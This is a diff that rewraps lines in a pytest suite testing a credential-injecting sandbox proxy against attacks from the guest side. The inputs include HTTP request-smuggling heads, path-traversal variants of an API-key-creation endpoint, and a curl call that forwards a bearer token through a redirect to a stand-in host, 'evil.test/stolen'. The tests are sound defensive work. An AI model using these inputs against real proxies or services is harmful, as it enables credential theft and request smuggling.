@@ -1,7 +1,9 @@
-"""Credentials from the attacker's side: real clients and servers around the real keeper, edge, egress, origins and vault (CredRig).
+"""Credentials from the attacker's side: real clients and servers around the real keeper, edge,
+egress, origins and vault (CredRig).
 
-Whoever speaks here is guest root. Each attack has three ends: what the client got, what servers saw, and what the audit log says. After
-every test no server but the right one, no log and no record has a byte of a canary.
+Whoever speaks here is guest root. Each attack has three ends: what the client got, what servers
+saw, and what the audit log says. After every test no server but the right one, no log and no record
+has a byte of a canary.
 """
 import base64
 import contextlib
@@ -42,7 +44,8 @@ SLOTS = {
     "api.test": ("x-secret", "key=" + CANARIES["lab"]),
 }
 HOST, OTHER, GIT, API = "api.openai.com", "api.anthropic.com", "github.com", "api.github.com"
-FORGE = API  # without a credential it is a tunnel; what a model API is then is in test_own_credentials.py
+# without a credential it is a tunnel; what a model API is then is in test_own_credentials.py
+FORGE = API
 BAD = ("expired.api.test", "wrong.api.test", "self.api.test")
 SECONDS = 20
 
@@ -72,7 +75,8 @@ def lab(tmp_path_factory):
 
 @pytest.fixture(scope="module")
 def rig(lab):
-    ports = {**dict.fromkeys(SLOTS, lab.server.port), "github.com": lab.gits.port, "evil.test": lab.evil.port, "plain.test": lab.server.port,
+    ports = {**dict.fromkeys(SLOTS, lab.server.port), "github.com": lab.gits.port,
+             "evil.test": lab.evil.port, "plain.test": lab.server.port,
              **{name: server.port for name, server in lab.bad.items()}}
     pins = {f"{name}:443": f"127.0.0.1:{port}" for name, port in ports.items()}
     pins[f"{HOST}:80"] = f"127.0.0.1:{lab.plain.port}"
@@ -80,7 +84,8 @@ def rig(lab):
     with CredRig(policy, pins, lab.ca.pem) as made:
         for name in ("openai", "anthropic", "github"):
             made.set_secret(name, CANARIES[name])
-        made.set_custom("lab", CANARIES["lab"], "api.test *.api.test", "x-secret", "key=%s", "LAB_KEY", "lab-proxy-managed-0")
+        made.set_custom("lab", CANARIES["lab"], "api.test *.api.test", "x-secret", "key=%s",
+                        "LAB_KEY", "lab-proxy-managed-0")
         # what the guest trusts, and for opaque tunnels the lab's own CA
         made.trusted = made.dir / "trusted.pem"
         made.trusted.write_text(made.ca().read_text() + lab.ca.pem.read_text())
@@ -91,7 +96,8 @@ def rig(lab):
 def written(canary):
     """How a value may stand in an answer."""
     raw = canary.encode()
-    forms = {"plain": raw, "hex": raw.hex().encode(), "HEX": raw.hex().upper().encode(), "utf16": canary.encode("utf-16-le"),
+    forms = {"plain": raw, "hex": raw.hex().encode(), "HEX": raw.hex().upper().encode(),
+             "utf16": canary.encode("utf-16-le"),
              "utf16be": canary.encode("utf-16-be"), "reversed": raw[::-1]}
     for shift in range(3):
         text = base64.b64encode(b"\0" * shift + raw)
@@ -103,9 +109,11 @@ def written(canary):
 
 def leaks(data):
     """Which canaries stand in these bytes, however they are written."""
-    views = {data, urllib.parse.unquote_to_bytes(data), html.unescape(data.decode("latin-1")).encode("latin-1", "replace"),
+    views = {data, urllib.parse.unquote_to_bytes(data),
+             html.unescape(data.decode("latin-1")).encode("latin-1", "replace"),
              re.sub(rb"\\u00([0-9a-fA-F]{2})", lambda m: bytes.fromhex(m[1].decode()), data)}
-    return [(name, form) for name, canary in CANARIES.items() for form, text in written(canary).items() for view in views if text in view]
+    return [(name, form) for name, canary in CANARIES.items() for form,
+            text in written(canary).items() for view in views if text in view]
 
 
 def unpack(data, coding):
@@ -115,7 +123,8 @@ def unpack(data, coding):
         return zlib.decompress(data)
     if coding == "br":
         script = "process.stdout.write(require('zlib').brotliDecompressSync(require('fs').readFileSync(0)))"
-        return subprocess.run(["node", "-e", script], input=data, capture_output=True, check=True).stdout
+        return subprocess.run(["node", "-e", script], input=data, capture_output=True,
+                              check=True).stdout
     if coding == "zstd":
         return subprocess.run(["zstd", "-dcq"], input=data, capture_output=True, check=True).stdout
     assert coding in ("", "identity"), coding
@@ -144,13 +153,18 @@ class Mark:
         for _ in range(60):
             found = self.rig.records()[self.n:]
             for record in found:
-                if all(re.search(str(pattern), str(record.get(name, ""))) for name, pattern in want.items()):
+                if all(re.search(str(pattern), str(record.get(name, ""))) for name,
+                       pattern in want.items()):
                     return record
             time.sleep(0.05)
-        raise AssertionError(f"no record with {want}:\n" + "\n".join(str({k: r[k] for k in r if k not in ('prev', 'hash', 'time')}) for r in found))
+        raise AssertionError(f"no record with {want}:\n"
+                             + "\n".join(str({k: r[k] for k in r
+                                              if k not in ('prev', 'hash', 'time')})
+                                         for r in found))
 
     def count(self, **want):
-        return sum(all(re.search(str(p), str(r.get(n, ""))) for n, p in want.items()) for r in self.rig.records()[self.n:])
+        return sum(all(re.search(str(p), str(r.get(n, ""))) for n, p in want.items())
+                   for r in self.rig.records()[self.n:])
 
 
 @pytest.fixture()
@@ -161,7 +175,9 @@ def mark(rig):
 # clients
 
 def curl(rig, *argv, check=True):
-    done = subprocess.run(["curl", "-sS", "-m", str(SECONDS), "--suppress-connect-headers", "--proxy", f"http://127.0.0.1:{rig.bridge()}", "--cacert", rig.trusted, *argv],
+    done = subprocess.run(["curl", "-sS", "-m", str(SECONDS), "--suppress-connect-headers",
+                           "--proxy", f"http://127.0.0.1:{rig.bridge()}", "--cacert", rig.trusted,
+                           *argv],
                           capture_output=True, timeout=2 * SECONDS, check=False)
     assert not check or done.returncode == 0, (done.returncode, done.stderr, done.stdout[:500])
     assert not leaks(done.stdout)
@@ -177,13 +193,15 @@ def status(rig, *argv):
 
 def h2(rig, host, script):
     """What node's HTTP/2 client got for these requests, over one connection."""
-    done = subprocess.run(["node", HERE.parent / "rigs/lab/client.mjs", str(rig.bridge()), rig.trusted, host], input=json.dumps(script).encode(),
+    done = subprocess.run(["node", HERE.parent / "rigs/lab/client.mjs", str(rig.bridge()),
+                           rig.trusted, host], input=json.dumps(script).encode(),
                           capture_output=True, timeout=2 * SECONDS, check=False)
     assert done.returncode == 0, done.stderr.decode()
     got = [json.loads(line) for line in done.stdout.splitlines()]
     for one in got:
         one["body"] = base64.b64decode(one["body"])
-        assert not leaks(one["body"] + json.dumps(one["headers"]).encode() + json.dumps(one["trailers"]).encode())
+        assert not leaks(one["body"] + json.dumps(one["headers"]).encode()
+                         + json.dumps(one["trailers"]).encode())
     return got
 
 
@@ -251,7 +269,8 @@ class Raw:
 
 
 def got(lab, path, host=HOST, n=1):
-    """The n-th request with this path: the right credential once, and nothing of the guest's own."""
+    """The n-th request with this path: the right credential once, and nothing of the guest's
+    own."""
     request = lab.server.wait(path, n)[n - 1]
     name, want = SLOTS[host]
     assert lab.server.header(request, name) == [want], request
@@ -278,20 +297,25 @@ request({ port: proxy, method: "CONNECT", path: at.host + ":443", headers: { hos
 
 
 def run_python(rig, url, key):
-    env = {**os.environ, "https_proxy": f"http://127.0.0.1:{rig.bridge()}", "SSL_CERT_FILE": str(rig.trusted)}
-    return subprocess.run(["/usr/bin/python3", "-c", PYTHON, url, key], capture_output=True, env=env, timeout=40, check=True).stdout
+    env = {**os.environ, "https_proxy": f"http://127.0.0.1:{rig.bridge()}",
+           "SSL_CERT_FILE": str(rig.trusted)}
+    return subprocess.run(["/usr/bin/python3", "-c", PYTHON, url, key], capture_output=True,
+                          env=env, timeout=40, check=True).stdout
 
 
 def run_node(rig, url, key):
     env = {**os.environ, "NODE_EXTRA_CA_CERTS": str(rig.trusted)}
-    done = subprocess.run(["node", "-e", NODE, str(rig.bridge()), url, key], capture_output=True, env=env, timeout=40, check=False)
+    done = subprocess.run(["node", "-e", NODE, str(rig.bridge()), url, key], capture_output=True,
+                          env=env, timeout=40, check=False)
     assert done.returncode == 0, done.stderr.decode()
     return done.stdout
 
 
 CLIENTS = {
-    "curl-h1": lambda rig, url, key: curl(rig, "--http1.1", "-H", f"Authorization: Bearer {key}", url).stdout,
-    "curl-h2": lambda rig, url, key: curl(rig, "--http2", "-H", f"Authorization: Bearer {key}", url).stdout,
+    "curl-h1": lambda rig, url,
+    key: curl(rig, "--http1.1", "-H", f"Authorization: Bearer {key}", url).stdout,
+    "curl-h2": lambda rig, url,
+    key: curl(rig, "--http2", "-H", f"Authorization: Bearer {key}", url).stdout,
     "curl-basic": lambda rig, url, key: curl(rig, "-u", f"me:{key}", url).stdout,
     "curl-without": lambda rig, url, key: curl(rig, url).stdout,
     "python-urllib": run_python,
@@ -305,7 +329,8 @@ def test_a_client_is_authenticated(rig, lab, mark, name):
     assert b'"ok":true' in out, out
     got(lab, "/" + name)
     record = mark.wait(kind="credential-use", action="use", op=f"GET /{name}")
-    assert record["decision"] == "allow" and record["rule"] == "openai" and record["host"] == HOST and "status 200" in record["reason"]
+    assert record["decision"] == "allow" and record["rule"] == "openai" and record[
+        "host"] == HOST and "status 200" in record["reason"]
     assert mark.count(path="bypass") == 0, "what is opened does not pass unseen"
 
 
@@ -320,8 +345,10 @@ def test_the_transparent_path_is_the_same(rig, lab, mark):
         addr = dns.lookup(HOST)[0]
     port = rig.bridge(f"/tcp/{addr}/443")
     for how in ("--http1.1", "--http2"):
-        done = subprocess.run(["curl", "-sS", "-m", "20", how, "--cacert", rig.trusted, "--connect-to", f"{HOST}:443:127.0.0.1:{port}",
-                               f"https://{HOST}/transparent{how}"], capture_output=True, timeout=40, check=True)
+        done = subprocess.run(["curl", "-sS", "-m", "20", how, "--cacert", rig.trusted,
+                               "--connect-to", f"{HOST}:443:127.0.0.1:{port}",
+                               f"https://{HOST}/transparent{how}"], capture_output=True, timeout=40,
+                              check=True)
         assert b'"ok":true' in done.stdout
         got(lab, f"/transparent{how}")
     mark.wait(kind="credential-use", action="use", path="transparent")
@@ -330,7 +357,8 @@ def test_the_transparent_path_is_the_same(rig, lab, mark):
 def test_many_requests_on_one_http2_connection(rig, lab):
     with rig.dns() as dns:
         addr = dns.lookup(HOST)[0]
-    done = subprocess.run(["h2load", "-n", "200", "-c", "2", "-m", "10", "--connect-to", f"127.0.0.1:{rig.bridge(f'/tcp/{addr}/443')}", f"https://{HOST}/load"],
+    done = subprocess.run(["h2load", "-n", "200", "-c", "2", "-m", "10", "--connect-to",
+                           f"127.0.0.1:{rig.bridge(f'/tcp/{addr}/443')}", f"https://{HOST}/load"],
                           capture_output=True, text=True, timeout=60, check=True)
     assert "200 succeeded" in done.stdout, done.stdout
     for n in range(1, 201, 50):
@@ -339,10 +367,13 @@ def test_many_requests_on_one_http2_connection(rig, lab):
 
 def test_git_clones_and_pushes(rig, lab, mark, tmp_path):
     lab.gits.make("a.git")
-    env = {**os.environ, "GIT_SSL_CAINFO": str(rig.trusted), "https_proxy": f"http://127.0.0.1:{rig.bridge()}", "GIT_TERMINAL_PROMPT": "0", "HOME": str(tmp_path)}
+    env = {**os.environ, "GIT_SSL_CAINFO": str(rig.trusted),
+           "https_proxy": f"http://127.0.0.1:{rig.bridge()}", "GIT_TERMINAL_PROMPT": "0",
+           "HOME": str(tmp_path)}
 
     def git(*argv, cwd=tmp_path):
-        done = subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", *argv], cwd=cwd, env=env, capture_output=True, text=True, timeout=60, check=False)
+        done = subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", *argv], cwd=cwd,
+                              env=env, capture_output=True, text=True, timeout=60, check=False)
         assert done.returncode == 0, done.stderr
 
     git("clone", "-q", f"https://{GIT}/a.git", "a")
@@ -353,7 +384,8 @@ def test_git_clones_and_pushes(rig, lab, mark, tmp_path):
     git("clone", "-q", "-b", "main", f"https://{GIT}/a.git", "b")
     assert (tmp_path / "b/f").read_text() == "hello"
     assert set(lab.gits.users) <= {"", lab.gits.want}, lab.gits.users
-    mark.wait(kind="credential-use", action="use", rule="github", host="^github.com$", op="POST .*git-receive-pack")
+    mark.wait(kind="credential-use", action="use", rule="github", host="^github.com$",
+              op="POST .*git-receive-pack")
 
 
 def test_a_host_without_a_credential_stays_an_opaque_tunnel(rig, lab, mark):
@@ -392,31 +424,40 @@ FOREIGN = {
 def test_a_foreign_key_does_not_leave(rig, lab, mark, name, how):
     sentinel = rig.variables()["OPENAI_API_KEY"]
     query = "".join(a for a in FOREIGN[name] if a[0] == "?")
-    code, body = status(rig, how, *(a.replace("SENTINEL", sentinel) for a in FOREIGN[name] if a[0] != "?"), f"https://{HOST}/foreign{query}")
+    code, body = status(rig, how,
+                        *(a.replace("SENTINEL", sentinel) for a in FOREIGN[name] if a[0] != "?"),
+                        f"https://{HOST}/foreign{query}")
     assert code == 403 and b"sbx secret set openai" in body, (code, body)
     assert not came(lab, "/foreign")
     record = mark.wait(kind="credential-use", decision="deny", op="GET /foreign")
     assert record["rule"] == "openai"
 
 
-@pytest.mark.parametrize("name", ["x-api-key: thief", "Cookie: session=thief", "x-note: ghp_thief0123456789abcdef"])
+@pytest.mark.parametrize("name",
+                         ["x-api-key: thief", "Cookie: session=thief",
+                          "x-note: ghp_thief0123456789abcdef"])
 def test_a_foreign_key_does_not_leave_beside_a_custom_credential(rig, lab, mark, name):
     code, body = status(rig, "-H", name, "https://api.test/foreign")
     assert code == 403 and not came(lab, "/foreign"), body
-    assert "refuse" == mark.wait(kind="credential-use", decision="deny", op="GET /foreign")["action"]
+    assert "refuse" == mark.wait(kind="credential-use", decision="deny",
+                                 op="GET /foreign")["action"]
 
 
 NEW_KEY = "/api/oauth/claude_cli/create_api_key"
 
 
-@pytest.mark.parametrize("path", [NEW_KEY, "/api//oauth/Claude_CLI/create_api_key/", "/api/oauth/claude_cli/create%5fapi_key", "/api/oauth/claude_cli/./create_api_key;a=b"])
+@pytest.mark.parametrize("path",
+                         [NEW_KEY, "/api//oauth/Claude_CLI/create_api_key/",
+                          "/api/oauth/claude_cli/create%5fapi_key",
+                          "/api/oauth/claude_cli/./create_api_key;a=b"])
 @pytest.mark.parametrize("how", ["--http1.1", "--http2"])
 def test_a_request_for_a_new_key_is_refused(rig, lab, mark, path, how):
     """F2: the shipped anthropic.conf; the server would answer with a key that sbx does not know."""
     code, body = status(rig, how, "--path-as-is", "-X", "POST", f"https://{OTHER}{path}")
     assert code == 403 and b"refuse * /api/oauth/**/create_api_key" in body and b"sbx secret set anthropic" in body, body
     assert not lab.server.requests
-    assert "create_api_key" in mark.wait(kind="credential-use", action="refuse", host=OTHER, rule="anthropic")["reason"]
+    assert "create_api_key" in mark.wait(kind="credential-use", action="refuse", host=OTHER,
+                                         rule="anthropic")["reason"]
 
 
 @pytest.mark.parametrize("coding", ["", "&gzip"])
@@ -432,20 +473,25 @@ def test_a_token_inside_a_response_is_captured(rig, lab, mark, coding, how):
     assert "removed" in mark.wait(kind="credential-use", action="use", host=API)["reason"]
 
 
-@pytest.mark.parametrize("path", ["/x/../api/oauth/claude_cli/create_api_key", "/api/oauth/claude_cli//../create_api_key", "/api/oauth/claude_cli/%20/../create_api_key"])
+@pytest.mark.parametrize("path",
+                         ["/x/../api/oauth/claude_cli/create_api_key",
+                          "/api/oauth/claude_cli//../create_api_key",
+                          "/api/oauth/claude_cli/%20/../create_api_key"])
 @pytest.mark.parametrize("how", ["--http1.1", "--http2"])
 def test_a_path_that_servers_resolve_differently_is_refused(rig, lab, mark, path, how):
     """W1: what '..' takes away depends on the server, so that no rule can judge such a path."""
     code, body = status(rig, how, "--path-as-is", "-X", "POST", f"https://{OTHER}{path}")
     assert code == 403 and b"'..' segments" in body, body
     assert not lab.server.requests
-    assert "'..' segments" in mark.wait(kind="credential-use", action="refuse", host=OTHER, rule="anthropic")["reason"]
+    assert "'..' segments" in mark.wait(kind="credential-use", action="refuse", host=OTHER,
+                                        rule="anthropic")["reason"]
 
 
 def test_sentinels_are_removed_however_often_they_stand(rig, lab):
     sentinel = rig.variables()["OPENAI_API_KEY"]
     with Raw(rig) as raw:
-        code, _, _ = raw.ask(f"GET /twice HTTP/1.1\nHost: {HOST}\nAUTHORIZATION: Bearer {sentinel}\nauthorization: bearer {sentinel}\nAuthorization: {sentinel}")
+        code, _, _ = raw.ask(
+            f"GET /twice HTTP/1.1\nHost: {HOST}\nAUTHORIZATION: Bearer {sentinel}\nauthorization: bearer {sentinel}\nAuthorization: {sentinel}")
         assert code == 200
     got(lab, "/twice")
 
@@ -459,7 +505,9 @@ def test_another_server_name_gets_no_certificate(rig, lab, mark):
     mark.wait(kind="decision", decision="deny", host=HOST)
 
 
-@pytest.mark.parametrize("other", ("evil.test", "api.anthropic.com", "plain.test", f"{HOST}:444", f"{HOST}.", ""))
+@pytest.mark.parametrize("other",
+                         ("evil.test", "api.anthropic.com", "plain.test", f"{HOST}:444", f"{HOST}.",
+                          ""))
 def test_another_host_inside_is_refused(rig, lab, mark, other):
     with Raw(rig) as raw:
         code, _, _ = raw.ask(f"GET /inside HTTP/1.1\nHost: {other}")
@@ -504,7 +552,8 @@ def test_a_redirect_takes_no_credential_along(rig, lab, mark):
     before = len(lab.evil.requests)
     sentinel = rig.variables()["OPENAI_API_KEY"]
     for how in ("--http1.1", "--http2"):
-        curl(rig, how, "-L", "--location-trusted", "-H", f"Authorization: Bearer {sentinel}", f"https://{HOST}/redirect?to=https://evil.test/stolen")
+        curl(rig, how, "-L", "--location-trusted", "-H", f"Authorization: Bearer {sentinel}",
+             f"https://{HOST}/redirect?to=https://evil.test/stolen")
     for request in lab.evil.wait("/stolen", 2):
         assert lab.evil.header(request, "authorization") == [f"Bearer {sentinel}"]
     assert len(lab.evil.requests) == before + 2
@@ -520,7 +569,8 @@ def test_a_redirect_inside_follows_nothing(rig, lab):
 
 # answers
 
-WAYS = ("plain", "base64", "base64a", "base64b", "base64url", "hex", "HEX", "percent", "percentsome", "json", "html", "htmlhex", "utf16", "twice", "header",
+WAYS = ("plain", "base64", "base64a", "base64b", "base64url", "hex", "HEX", "percent",
+        "percentsome", "json", "html", "htmlhex", "utf16", "twice", "header",
         "trailer", "split", "gzip", "deflate", "br", "zstd", "redirect")
 
 
@@ -534,7 +584,8 @@ def test_a_reflected_credential_is_removed(rig, lab, mark, way, host):
         if how == "--http2":
             assert not leaks(unpack(body, coding[1].decode() if coding else ""))
         assert not leaks(out)
-        if way not in ("header", "trailer", "redirect", "gzip", "deflate", "br", "zstd") and how == "--http2":
+        if way not in ("header", "trailer", "redirect", "gzip", "deflate", "br",
+                       "zstd") and how == "--http2":
             assert body.startswith(b"<before>") and body.endswith(b"<after>"), body
     got(lab, f"/reflect/{way}", host, 2)
     record = mark.wait(kind="credential-use", action="use", op=f"GET /reflect/{way}")
@@ -542,7 +593,10 @@ def test_a_reflected_credential_is_removed(rig, lab, mark, way, host):
 
 
 def test_http2_answers_are_clean_too(rig, lab):
-    for way, one in zip(("trailer", "header", "br"), h2(rig, HOST, [{"headers": {":path": f"/reflect/{w}"}} for w in ("trailer", "header", "br")])):
+    for way, one in zip(("trailer", "header", "br"),
+                        h2(rig, HOST,
+                           [{"headers": {":path": f"/reflect/{w}"}}
+                            for w in ("trailer", "header", "br")])):
         assert one["status"] == 200, (way, one)
 
 
@@ -557,16 +611,20 @@ def test_a_head_byte_by_byte_is_one_request(rig, lab):
     got(lab, "/slow")
 
 
-# A head that is too large: the answer can be lost, because edge closes while the client still sends (0).
+# A head that is too large: the answer can be lost, because edge closes while the client still sends
+# (0).
 @pytest.mark.parametrize("codes,head", (
     ((0, 431), "GET /bad HTTP/1.1\nHost: HOST\nX: " + "a" * 300000),
-    ((0, 431), "GET /bad HTTP/1.1\nHost: HOST\n" + "\n".join(f"X-{i}: {'a' * 500}" for i in range(600))),
+    ((0, 431),
+     "GET /bad HTTP/1.1\nHost: HOST\n" + "\n".join(f"X-{i}: {'a' * 500}" for i in range(600))),
     ((400,), "GET /bad HTTP/1.1\nHost: HOST\nAuthorization: Bearer\n  thief"),
     ((400,), "GET /bad HTTP/1.1\nHost: HOST\nAuthorization : Bearer thief"),
     ((400,), "GET /bad HTTP/1.1\nHost: HOST\nHost: HOST"),
     ((400,), "GET /bad HTTP/1.1\nHost: HOST\nAuthori\0zation: Bearer thief"),
     ((400,), "POST /bad HTTP/1.1\nHost: HOST\nContent-Length: 5\nTransfer-Encoding: chunked"),
-), ids=("long field", "many fields", "folded", "space before the colon", "two hosts", "zero byte", "two lengths"))
+),
+                         ids=("long field", "many fields", "folded", "space before the colon",
+                              "two hosts", "zero byte", "two lengths"))
 def test_a_head_with_two_readings_is_refused(rig, lab, mark, codes, head):
     with Raw(rig) as raw:
         try:
@@ -581,7 +639,8 @@ def test_a_head_with_two_readings_is_refused(rig, lab, mark, codes, head):
 def test_a_second_request_hidden_in_a_body_stays_a_body(rig, lab):
     inner = f"GET /hidden HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
     with Raw(rig) as raw:
-        assert raw.ask(f"POST /outer HTTP/1.1\nHost: {HOST}\nContent-Length: {len(inner)}", inner)[0] == 200
+        assert raw.ask(f"POST /outer HTTP/1.1\nHost: {HOST}\nContent-Length: {len(inner)}",
+                       inner)[0] == 200
     assert lab.server.wait("/outer")[0]["length"] == len(inner)
     assert not came(lab, "/hidden")
 
@@ -589,7 +648,8 @@ def test_a_second_request_hidden_in_a_body_stays_a_body(rig, lab):
 @pytest.mark.parametrize("method", ("TRACE", "TRACK", "CONNECT"))
 def test_methods_that_say_the_head_again_are_refused(rig, lab, mark, method):
     with Raw(rig) as raw:
-        code, _, _ = raw.ask(f"{method} {'/' if method != 'CONNECT' else HOST + ':443'} HTTP/1.1\nHost: {HOST}")
+        code, _, _ = raw.ask(
+            f"{method} {'/' if method != 'CONNECT' else HOST + ':443'} HTTP/1.1\nHost: {HOST}")
         assert code in (400, 403, 405, 501), code
     assert not lab.server.requests
     mark.wait(decision="deny")
@@ -640,18 +700,22 @@ def test_events_come_as_they_are_said(rig, lab):
 
 def test_a_websocket_is_authenticated(rig, lab, mark):
     with Raw(rig, "api.test") as raw:
-        code, head, _ = raw.ask("GET /ws HTTP/1.1\nHost: api.test\nUpgrade: websocket\nConnection: Upgrade\nSec-WebSocket-Version: 13\n"
+        code, head, _ = raw.ask(
+            "GET /ws HTTP/1.1\nHost: api.test\nUpgrade: websocket\nConnection: Upgrade\nSec-WebSocket-Version: 13\n"
                                 "Sec-WebSocket-Key: " + base64.b64encode(os.urandom(16)).decode())
         assert code == 101, head
         for _ in range(10):
-            raw.sock.sendall(bytes([0x81, 0x85]) + b"abcd" + bytes(c ^ k for c, k in zip(b"hello", b"abcda")))
+            raw.sock.sendall(bytes([0x81, 0x85]) + b"abcd"
+                             + bytes(c ^ k for c, k in zip(b"hello", b"abcda")))
             assert raw.exactly(7) == b"\x81\x05hello"
     got(lab, "/ws", "api.test")
     mark.wait(kind="credential-use", action="use", op="GET /ws", reason="101")
 
 
 def test_a_stream_goes_both_ways_at_once(rig, lab):
-    (one,) = h2(rig, HOST, [{"headers": {":path": "/echo", ":method": "POST", "content-type": "application/grpc", "te": "trailers"},
+    (one,) = h2(rig, HOST,
+                [{"headers": {":path": "/echo", ":method": "POST",
+                              "content-type": "application/grpc", "te": "trailers"},
                              "body": [f"piece {i};" for i in range(8)], "talk": True}])
     assert one["status"] == 200 and one["body"] == b"".join(b"piece %d;" % i for i in range(8)), one
     assert one["trailers"].get("grpc-status") == "0", one
@@ -660,7 +724,8 @@ def test_a_stream_goes_both_ways_at_once(rig, lab):
 
 def test_who_waits_for_100_gets_it(rig, lab):
     with Raw(rig) as raw:
-        raw.sock.sendall(f"POST /expect HTTP/1.1\r\nHost: {HOST}\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\n".encode())
+        raw.sock.sendall(
+            f"POST /expect HTTP/1.1\r\nHost: {HOST}\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\n".encode())
         assert b" 100 " in raw.until(b"\r\n\r\n")
         raw.sock.sendall(b"hello")
         assert b" 200 " in raw.until(b"\r\n\r\n")
@@ -676,8 +741,11 @@ def test_large_bodies_are_whole(rig, lab, tmp_path, how):
     assert request["length"] == n
     import hashlib
     assert request["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
-    out = subprocess.run(["curl", "-sS", how, "-m", "60", "--proxy", f"http://127.0.0.1:{rig.bridge()}", "--cacert", rig.trusted, "-o", tmp_path / "down",
-                          f"https://{HOST}/download?n={n}"], capture_output=True, timeout=90, check=False)
+    out = subprocess.run(["curl", "-sS", how, "-m", "60", "--proxy",
+                          f"http://127.0.0.1:{rig.bridge()}", "--cacert", rig.trusted, "-o",
+                          tmp_path / "down",
+                          f"https://{HOST}/download?n={n}"], capture_output=True, timeout=90,
+                         check=False)
     assert out.returncode == 0 and (tmp_path / "down").stat().st_size == n
 
 
@@ -688,7 +756,8 @@ def whole(rig, lab):
     """Whatever was broken, afterwards a request goes through."""
     yield
     for _ in range(100):
-        if rig.command("up") == "yes" and b'"ok":true' in curl(rig, f"https://{HOST}/whole", check=False).stdout:
+        if rig.command("up") == "yes" and b'"ok":true' in curl(rig, f"https://{HOST}/whole",
+                                                               check=False).stdout:
             got(lab, "/whole")
             return
         time.sleep(0.1)
@@ -705,7 +774,8 @@ def test_a_secret_removed_in_flight_ends_the_request(rig, lab, mark, whole):
             rig.remove_secret("github")
             began = time.monotonic()
             rest = raw.rest()
-            assert time.monotonic() - began < 3 and not rest.endswith(b"0\r\n\r\n"), "it looks as if it had ended"
+            assert time.monotonic() - began < 3 and not rest.endswith(b"0\r\n\r\n"), (
+                "it looks as if it had ended")
             # a connection that was opened has no binding any more
             code, _, body = idle.ask(f"GET /after HTTP/1.1\nHost: {FORGE}")
             assert code in (403, 421), (code, body)
@@ -743,7 +813,8 @@ def test_an_origin_killed_between_release_and_send_sends_nothing(rig, lab, mark,
         with Raw(rig) as raw:
             raw.sock.sendall(f"GET /killed HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
             for _ in range(200):
-                origins = [pid for pid in rig.pids()["origin"] if pid not in killed]  # these may not have been waited for
+                # these may not have been waited for
+                origins = [pid for pid in rig.pids()["origin"] if pid not in killed]
                 if origins:
                     break
                 time.sleep(0.01)
